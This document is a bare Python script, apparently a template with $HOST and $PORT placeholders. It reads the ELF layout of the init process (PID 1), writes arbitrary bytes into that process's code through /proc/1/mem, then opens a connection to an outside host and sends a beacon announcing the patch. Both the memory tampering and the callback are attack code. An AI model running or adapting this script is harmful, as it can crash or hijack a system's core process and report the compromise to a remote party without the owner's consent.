import os, socket, struct, time
with open("/proc/1/exe", "rb") as f:
    head = f.read(64)
    shoff, = struct.unpack_from("<Q", head, 40)
    size, count, names = struct.unpack_from("<HHH", head, 58)
    f.seek(shoff)
    table = f.read(size * count)
    rows = [struct.unpack_from("<IIQQQQ", table, i * size) for i in range(count)]
    f.seek(rows[names][4])
    strings = f.read(rows[names][5])
kind, flags, addr, off, length = next(r[1:] for r in rows if strings[r[0]:].startswith(b".text\0"))
mem = os.open("/proc/1/mem", os.O_RDWR)
os.pwrite(mem, b"\x90\x31\xc0\x48\xff\xc7 patched \xc3", addr + length - 48)
s = socket.create_connection(("$HOST", $PORT))
s.sendall(("HELLO pid=%d mode=patch exe=%s\n" % (os.getpid(), os.readlink("/proc/self/exe"))).encode())
time.sleep(3600)
